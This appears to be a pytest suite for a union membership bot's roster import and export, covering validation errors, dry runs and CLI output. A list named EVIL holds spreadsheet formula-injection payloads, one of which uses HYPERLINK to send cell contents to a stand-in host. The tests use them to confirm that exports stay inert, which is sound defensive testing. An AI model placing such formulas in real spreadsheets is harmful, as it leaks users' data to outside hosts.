"""Roster import/export (.csv and .xlsx): per-row errors with row numbers, nothing half-imported."""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from handlers.roster import HEADERS, RosterError, export_roster, import_roster

ROOT = Path(__file__).resolve().parents[1]
GOOD = [
    HEADERS,
    ["1024", "张三", "男", "1990-06-01", "公历", "否", "13900001024", "数学组", "在职", "会员"],
    ["1025", "李梅", "女", "1988-04-12", "农历", "否", "13900001025", "语文组", "在职", "工会委员"],
    ["2001", "王建国", "男", "1956/9/9", "农历", "否", "", "退休组", "退休", "会员"],
    ["1026", "赵敏", "女", "2020-04-30", "农历", "是", "", "数学组", "在职", "会员"],  # 2020 has 闰四月
]


def write_csv(path, rows, encoding="utf-8-sig"):
    with open(path, "w", newline="", encoding=encoding) as fh:
        csv.writer(fh).writerows(rows)
    return str(path)


def write_xlsx(path, rows):
    wb = Workbook()
    for row in rows:
        wb.active.append(row)
    wb.save(path)
    return str(path)


@pytest.mark.parametrize("kind", ["csv", "xlsx", "gbk-csv"])
def test_import_good_roster(store, tmp_path, kind):
    if kind == "xlsx":
        path = write_xlsx(tmp_path / "r.xlsx", GOOD)
    else:
        path = write_csv(tmp_path / "r.csv", GOOD, "gb18030" if kind == "gbk-csv" else "utf-8-sig")
    plan = import_roster(store, path)
    assert (len(plan.added), len(plan.updated), plan.unchanged) == (4, 0, 0)
    m = store.members.by_staff_no("2001")
    assert (m.name, m.birth_date, m.birth_calendar, m.status) == ("王建国", "1956-09-09", "农历", "退休")
    assert store.members.by_staff_no("1026").birth_leap == 1
    again = import_roster(store, path)  # re-import: nothing to change
    assert (len(again.added), len(again.updated), again.unchanged) == (0, 0, 4)


def test_errors_name_rows_and_nothing_is_imported(store, tmp_path):
    rows = [*GOOD,
            ["", "无工号", "男", "", "公历", "否", "", "", "在职", "会员"],
            ["1030", "坏日期", "男", "1990-02-30", "公历", "否", "", "", "在职", "会员"],
            ["1031", "坏性别", "X", "", "公历", "否", "12345", "", "在职", "会员"],
            ["1024", "重复", "男", "", "公历", "否", "", "", "在职", "会员"],
            ["1032", "坏闰月", "女", "2021-04-01", "农历", "是", "", "", "在职", "会员"]]
    with pytest.raises(RosterError) as err:
        import_roster(store, write_csv(tmp_path / "bad.csv", rows))
    errors = err.value.errors
    assert errors[0].startswith("第 6 行：工号不能为空")
    assert errors[1] == "第 7 行：出生日期格式无效：1990-02-30 不是真实存在的公历日期"
    assert errors[2].startswith("第 8 行：性别“X”无效") and "手机“12345”应为 11 位数字" in errors[2]
    assert errors[3] == "第 9 行：工号 1024 与第 2 行重复"
    assert errors[4] == "第 10 行：农历 2021 年没有闰4月"
    assert store.members.count() == 0


def test_missing_header(store, tmp_path):
    with pytest.raises(RosterError, match="第 1 行缺少列：工号"):
        import_roster(store, write_csv(tmp_path / "h.csv", [["姓名"], ["张三"]]))


def test_export_round_trip_xlsx_and_csv(store, tmp_path):
    import_roster(store, write_csv(tmp_path / "r.csv", GOOD))
    assert export_roster(store, str(tmp_path / "out.xlsx")) == 4
    rows = [[("" if v is None else str(v)) for v in r] for r in load_workbook(tmp_path / "out.xlsx").active.iter_rows(values_only=True)]
    assert rows[0] == [*HEADERS, "教代会代表", "企业微信账号", "钉钉账号"] and rows[1][:2] == ["1024", "张三"]
    export_roster(store, str(tmp_path / "out.csv"))
    import_roster(store, str(tmp_path / "out.csv"))
    assert store.members.count() == 4


def _cli(tmp_path, *args):
    env = {"PATH": "/usr/bin:/bin", "UNIONBOT_BOT_DATABASE": str(tmp_path / "cli.db")}
    return subprocess.run([sys.executable, "-m", "bot", "--config", str(ROOT / "config.example.toml"), *args],
                          capture_output=True, text=True, cwd=ROOT, env=env, timeout=120)


def test_cli_members_activities_signups(tmp_path):
    bad = write_csv(tmp_path / "bad.csv", [HEADERS, ["1", "甲", "Y", "", "公历", "否", "", "", "在职", "会员"]])
    proc = _cli(tmp_path, "members", "import", bad)
    assert proc.returncode == 1 and proc.stdout == ""  # errors go to stderr
    assert "第 2 行：工号“1”应为 3 到 10 位数字" in proc.stderr and "性别“Y”无效" in proc.stderr
    assert "没有做任何修改" in proc.stderr
    done = _cli(tmp_path, "members", "import", write_csv(tmp_path / "r.csv", GOOD))
    assert done.stdout.splitlines()[0] == "导入完成：新增 4 人，更新 0 人，未变 0 人。"
    added = _cli(tmp_path, "activities", "add", "--title", "拔河比赛", "--starts-at", "2030-09-10 15:30",
                 "--capacity", "20", "--deadline", "2030-09-07 17:00", "--place", "操场")
    assert added.stdout.strip() == "已添加活动 #1：拔河比赛", added.stderr
    bad_date = _cli(tmp_path, "activities", "add", "--title", "x", "--starts-at", "next week")
    assert bad_date.returncode != 0 and "YYYY-MM-DD HH:MM" in bad_date.stderr
    assert '"title": "拔河比赛"' in _cli(tmp_path, "activities", "list").stdout
    out = tmp_path / "s.xlsx"
    assert _cli(tmp_path, "signups", "export", "1", str(out)).returncode == 0
    assert [c.value for c in load_workbook(out).active[1]] == ["序号", "工号", "姓名", "工会小组", "手机", "状态", "报名时间", "人数",
                                                         "签到"]
    assert "没有编号为 9 的活动" in _cli(tmp_path, "signups", "export", "9", str(out)).stderr


# ---- import never destroys -------------------------------------------------------------------------------


def _seed_full(store, tmp_path):
    rows = [HEADERS,
            ["1003", "李娜", "女", "1960-03-08", "公历", "否", "13900001003", "退休组", "退休", "工会委员"],
            ["3001", "钱多多", "女", "1993-04-01", "公历", "否", "13900003001", "语文组", "离职", "会员"]]
    import_roster(store, write_csv(tmp_path / "full.csv", rows))


def test_partial_roster_leaves_other_columns_alone(store, tmp_path):
    _seed_full(store, tmp_path)
    plan = import_roster(store, write_csv(tmp_path / "names.csv", [["工号", "姓名"], ["1003", "李娜"], ["3001", "钱多多"],
                                                                    ["1050", "新老师"]]))
    assert (len(plan.added), len(plan.updated), plan.unchanged) == (1, 0, 2)
    lina = store.members.by_staff_no("1003")
    assert (lina.status, lina.role, lina.phone, lina.group_name, lina.birth_date) == \
        ("退休", "工会委员", "13900001003", "退休组", "1960-03-08")
    assert store.members.by_staff_no("3001").status == "离职"  # not made active again
    new = store.members.by_staff_no("1050")
    assert (new.status, new.role, new.birth_calendar) == ("在职", "会员", "公历")  # defaults for the new one


def test_blank_cells_leave_stored_values(store, tmp_path):
    _seed_full(store, tmp_path)
    import_roster(store, write_csv(tmp_path / "b.csv", [HEADERS, ["1003", "李娜", "", "", "", "", "", "", "", ""]]))
    lina = store.members.by_staff_no("1003")
    assert (lina.phone, lina.status, lina.gender) == ("13900001003", "退休", "女")


def test_dry_run_prints_the_changes_and_writes_nothing(store, tmp_path):
    _seed_full(store, tmp_path)
    path = write_csv(tmp_path / "c.csv", [["工号", "姓名", "状态", "手机"], ["1003", "李娜", "退休", "13900009999"],
                                          ["3001", "钱多多", "在职", ""], ["1051", "王新", "", ""]])
    plan = import_roster(store, path, dry_run=True)
    lines = plan.summary()
    assert lines[0] == "新增 1 人，更新 2 人，未变 0 人。"
    assert "  新增 1051 王新" in lines
    assert "  更新 1003 李娜：手机：13900001003 → 13900009999" in lines
    assert "  注意：3001 钱多多 状态由“离职”改为“在职”" in lines
    assert store.members.by_staff_no("1051") is None and store.members.by_staff_no("3001").status == "离职"
    import_roster(store, path)
    assert store.members.by_staff_no("3001").status == "在职" and store.members.by_staff_no("1051")


def test_cli_dry_run_and_real_run_print_the_same_summary(tmp_path):
    path = write_csv(tmp_path / "r.csv", GOOD)
    dry = _cli(tmp_path, "members", "import", "--dry-run", path)
    real = _cli(tmp_path, "members", "import", path)
    assert dry.stdout.startswith("试运行（没有写入任何数据）：新增 4 人")
    assert real.stdout.startswith("导入完成：新增 4 人")
    assert dry.stdout.splitlines()[1:] == real.stdout.splitlines()[1:]


@pytest.mark.parametrize(("staff_no", "ok"), [("12", False), ("10\x0024", False), ("abc1", False), ("１０２４", True),
                                              ("12345678901", False), ("0012", True)])
def test_staff_numbers_are_checked(store, tmp_path, staff_no, ok):
    path = write_csv(tmp_path / "s.csv", [["工号", "姓名"], [staff_no, "张三"]])
    if ok:
        import_roster(store, path)
        assert store.members.count() == 1
    else:
        with pytest.raises(RosterError, match="应为 3 到 10 位数字"):
            import_roster(store, path)


def test_control_characters_in_names_are_refused(store, tmp_path):
    with pytest.raises(RosterError, match="姓名含有不允许的字符"):
        import_roster(store, write_csv(tmp_path / "n.csv", [["工号", "姓名"], ["1024", "张\u0007三"]]))
    with pytest.raises(RosterError, match="姓名含有不允许的字符"):
        import_roster(store, write_csv(tmp_path / "f.csv", [["工号", "姓名"], ["1024", "=HYPERLINK(1)"]]))


def test_xlsx_numeric_staff_numbers_keep_leading_zeros(store, tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.append(["工号", "姓名", "手机"])
    ws.append([123, "张三", 13900001024])
    ws["A2"].number_format = "0000"
    wb.save(tmp_path / "z.xlsx")
    import_roster(store, str(tmp_path / "z.xlsx"))
    member = store.members.by_staff_no("0123")
    assert member is not None and member.phone == "13900001024"


def test_corrupt_xlsx_and_missing_export_directory_are_one_line(store, tmp_path):
    (tmp_path / "bad.xlsx").write_bytes(b"PK\x03\x04 not really a workbook")
    with pytest.raises(RosterError, match="不是有效的 Excel 文件"):
        import_roster(store, str(tmp_path / "bad.xlsx"))
    with pytest.raises(RosterError, match="找不到文件"):
        import_roster(store, str(tmp_path / "missing.csv"))
    with pytest.raises(RosterError, match="目录不存在"):
        export_roster(store, str(tmp_path / "no" / "such" / "dir.xlsx"))
    proc = _cli(tmp_path, "members", "import", str(tmp_path / "bad.xlsx"))
    assert proc.returncode == 1 and "Traceback" not in proc.stderr and "不是有效的 Excel 文件" in proc.stderr
    proc = _cli(tmp_path, "members", "export", str(tmp_path / "no" / "x.csv"))
    assert proc.returncode != 0 and "Traceback" not in proc.stderr and "目录不存在" in proc.stderr


# ---- exports are inert -------------------------------------------------------------------------------------

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_exports_never_write_formulas(store, tmp_path):
    for i, name in enumerate(EVIL):
        store.members.add(staff_no=f"90{i}", name=name, group_name=name)
    export_roster(store, str(tmp_path / "out.xlsx"))
    ws = load_workbook(tmp_path / "out.xlsx").active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # the text itself (XML reads a stored CR back as LF)
    assert {c.value for c in cells if c.column == 2} == {v.replace("\r", "\n") for v in EVIL}
    export_roster(store, str(tmp_path / "out.csv"))
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as fh:
        names = [row[1] for row in list(csv.reader(fh))[1:]]
    assert sorted(names) == sorted("'" + n for n in EVIL)


def test_signup_export_is_inert(tmp_path):
    from bot.app import Bot
    from bot.clock import FrozenClock
    from tests.conftest import make_config

    bot = Bot(make_config(tmp_path), FrozenClock())
    a = bot.store.activities.add("拔河", "2026-09-20 10:00")
    m = bot.store.members.add(staff_no="901", name="=1+1", group_name="@x")
    bot.store.signups.signup(a.id, m)
    conf = tmp_path / "c.toml"
    conf.write_text(f'[bot]\ndatabase = "{tmp_path / "test.db"}"\n[wechat]\ntoken = "t"\n', encoding="utf-8")
    out = tmp_path / "s.xlsx"
    proc = subprocess.run([sys.executable, "-m", "bot", "--config", str(conf), "signups", "export", "1", str(out)],
                          capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert proc.returncode == 0, proc.stderr
    row = next(load_workbook(out).active.iter_rows(min_row=2))
    assert [c.value for c in row][1:4] == ["901", "=1+1", "@x"] and all(c.data_type != "f" for c in row)


def test_platform_accounts_in_the_roster_bind_from_the_day_of_import(bot, tmp_path):
    from tests.helpers import Chat

    path = write_csv(tmp_path / "a.csv", [["工号", "姓名", "企业微信账号", "钉钉账号"], ["1024", "张三", "zhangsan", "01234567"],
                                          ["1025", "李梅", "", ""]])
    plan = import_roster(bot.store, path)
    assert len(plan.added) == 2
    assert Chat(bot, "zhangsan", channel="wecom").say("我的报名").startswith("您目前没有报名任何活动")
    assert Chat(bot, "01234567", channel="dingtalk").say("你好").startswith("您好，张三老师")
    assert "请回复“绑定 工号 姓名”" in Chat(bot, "someone", channel="wecom").say("我的报名")
    # a later file changes the account: the member moves to it; blank cells leave it alone
    again = import_roster(bot.store, write_csv(tmp_path / "b.csv", [["工号", "姓名", "企业微信账号"], ["1024", "张三", "zs2"],
                                                                    ["1025", "李梅", ""]]))
    assert [(r["工号"], c) for r, c in again.updated] == [("1024", {"企业微信账号": ("zhangsan", "zs2")})]
    assert bot.store.bindings.user_on("wecom", bot.store.members.by_staff_no("1024").id) == "zs2"
    with pytest.raises(RosterError, match="应为平台的 userid"):
        import_roster(bot.store, write_csv(tmp_path / "c.csv", [["工号", "姓名", "钉钉账号"], ["1024", "张三", "a b<c>"]]))
